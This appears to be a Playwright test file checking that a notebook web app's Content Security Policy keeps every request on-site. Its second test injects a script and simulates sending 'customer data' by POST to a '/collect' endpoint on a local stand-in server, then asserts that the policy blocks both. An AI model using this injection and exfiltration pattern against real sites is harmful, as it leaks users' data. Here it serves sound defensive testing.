import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { distDir } from './harness/paths';
import { expect, test } from './harness/test';

interface LoggedRequest {
  url: string;
  /** Who asked: the page (its dedicated workers count as the page) or the service worker. */
  from: 'page' | 'service worker';
}

interface Violation {
  directive: string;
  blockedURI: string;
}

/** The chunks the kernel worker imports itself: the page never asks for them. */
function kernelWorkerImports(): string[] {
  const assets = join(distDir, 'assets');
  const workerFile = readdirSync(assets).find((name) => name.startsWith('kernel.worker-') && name.endsWith('.js'));
  if (!workerFile) throw new Error('No kernel worker in the built site');
  return [...readFileSync(join(assets, workerFile), 'utf8').matchAll(/from"\.\/([^"]+\.js)"/g)].map(([, name]) => `assets/${name}`);
}

/** Every request the context makes, the service worker's and the kernel worker's included. */
function logRequests(context: BrowserContext): LoggedRequest[] {
  const log: LoggedRequest[] = [];
  context.on('request', (request) => log.push({ url: request.url(), from: request.serviceWorker() ? 'service worker' : 'page' }));
  return log;
}

/** Every `securitypolicyviolation` the page sees, across reloads. */
async function logViolations(page: Page): Promise<Violation[]> {
  const violations: Violation[] = [];
  await page.exposeFunction('reportViolation', (violation: Violation) => violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { reportViolation(violation: Violation): void }).reportViolation({ directive: event.effectiveDirective, blockedURI: event.blockedURI });
    });
  });
  return violations;
}

async function tooltipStyle(page: Page): Promise<{ visibility: string; position: string } | null> {
  return page.evaluate(() => {
    const tooltip = document.getElementById('vg-tooltip-element');
    if (!tooltip) return null;
    const { visibility, position } = getComputedStyle(tooltip);
    return { visibility, position };
  });
}

/** The page's policy, directive by directive. */
async function pagePolicy(page: Page): Promise<Map<string, string[]>> {
  const content = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const directives = (content ?? '').split(';').map((part) => part.trim().split(/\s+/)).filter((words) => words[0] !== '');
  return new Map(directives.map(([name, ...sources]) => [name, sources]));
}

test('a full session stays on the site and breaks no rule of the page policy', async ({ workbench, page, siteUrl }) => {
  const requests = logRequests(page.context());
  const violations = await logViolations(page);
  const siteOrigin = new URL(siteUrl).origin;

  await workbench.open();
  const policy = await pagePolicy(page);
  expect(policy.get('default-src')).toEqual(["'self'"]);
  expect(policy.get('connect-src')).toEqual(["'self'", 'blob:', 'data:']);
  expect(policy.get('script-src')).toEqual(["'self'"]);
  expect(policy.get('style-src')).toEqual(["'self'"]);
  expect(policy.get('object-src')).toEqual(["'none'"]);
  // No directive names another host: only 'self', keywords and local schemes.
  for (const [directive, sources] of policy) {
    for (const source of sources) expect(source, directive).toMatch(/^('[a-z-]+'|blob:|data:)$/);
  }

  // A short training run: what is checked is where requests go, not the model.
  await workbench.runSampleNotebook({ epochs: 4 });
  // Charts are drawn (Vega's expressions run without eval), and every export is made in the page:
  // Jupyter with charts drawn to PNG, a share link, and the native JSON.
  expect(await page.locator('.vega-embed svg').count()).toBeGreaterThan(0);
  // Vega's tooltip shows, styled by the app's stylesheet rather than an inline <style>.
  const bar = workbench.cell('eda').locator('.vega-embed .mark-rect path').first();
  await bar.scrollIntoViewIfNeeded();
  await bar.hover();
  await expect.poll(() => tooltipStyle(page)).toEqual({ visibility: 'visible', position: 'fixed' });
  await page.getByTestId('export-menu').click();
  const ipynb = JSON.parse(await downloaded(page, () => page.getByTestId('export-ipynb').click())) as { cells: { outputs?: { data?: Record<string, unknown> }[] }[] };
  expect(ipynb.cells.some((cell) => cell.outputs?.some((output) => output.data?.['image/png']))).toBe(true);
  await page.getByTestId('copy-link').click();
  expect(await page.getByTestId('share-link').inputValue()).toContain('#nb=');
  const native = JSON.parse(await downloaded(page, () => page.getByTestId('export').click())) as { cells: unknown[] };
  expect(native.cells.length).toBeGreaterThan(0);
  await workbench.reload();
  await workbench.waitForCell('evaluate', ['done']);

  expect(violations).toEqual([]);
  const offSite = requests.filter(({ url }) => {
    const { protocol, origin } = new URL(url);
    return !(protocol === 'blob:' || protocol === 'data:' || origin === siteOrigin);
  });
  expect(offSite).toEqual([]);
  // The log sees every requester: the kernel worker loading its own chunks, the service worker caching the build.
  const pageRequests = requests.filter(({ from }) => from === 'page').map(({ url }) => url);
  const workerImports = kernelWorkerImports();
  expect(workerImports.length).toBeGreaterThan(0);
  for (const file of workerImports) expect(pageRequests).toContain(new URL(file, siteUrl).href);
  expect(requests.filter(({ from }) => from === 'service worker').map(({ url }) => url)).toContain(new URL('index.html', siteUrl).href);
});

/** A server on another origin that counts what reaches it: what the page tries to send away. */
async function listeningServer(): Promise<{ origin: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  // localhost, not 127.0.0.1: the same machine, another origin than the site's.
  return { origin: `http://localhost:${port}`, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

test('the policy is enforced: an injected script, a remote image and a request to another host never run or leave', async ({ workbench, page, problems, onTestFinished }) => {
  const elsewhere = await listeningServer();
  onTestFinished(() => elsewhere.close());
  const violations = await logViolations(page);
  await workbench.open();
  await page.getByTestId('try-sample').waitFor();

  const fetchRefused = await page.evaluate(async (origin) => {
    document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.injectedRan = true' }));
    document.body.append(Object.assign(document.createElement('img'), { src: `${origin}/pixel.png` }));
    return fetch(`${origin}/collect`, { method: 'POST', body: 'customer data' }).then(
      () => false,
      () => true,
    );
  }, elsewhere.origin);
  expect(fetchRefused).toBe(true);
  // The page carries the policy twice, as a header and as a meta for hosts that send none: each refusal is reported by both.
  await expect.poll(() => [...new Set(violations.map(({ directive }) => directive))].sort()).toEqual(['connect-src', 'img-src', 'script-src-elem']);
  expect(await page.evaluate(() => (window as { injectedRan?: boolean }).injectedRan)).toBeUndefined();
  expect(elsewhere.hits).toEqual([]);

  // Each refusal is reported on the console and the blocked image as an attempted request: these
  // were provoked here; anything else still fails the test.
  const provoked = (text: string) => text.includes('Content Security Policy') || text.startsWith(elsewhere.origin);
  expect(problems.consoleErrors.filter(provoked).length).toBeGreaterThanOrEqual(3);
  for (const list of [problems.consoleErrors, problems.offsiteRequests]) list.splice(0, list.length, ...list.filter((text) => !provoked(text)));
});

/** The text of the file `start` makes the page download. */
async function downloaded(page: Page, start: () => Promise<void>): Promise<string> {
  const [download] = await Promise.all([page.waitForEvent('download'), start()]);
  const chunks: Buffer[] = [];
  for await (const chunk of await download.createReadStream()) chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks).toString('utf8');
}
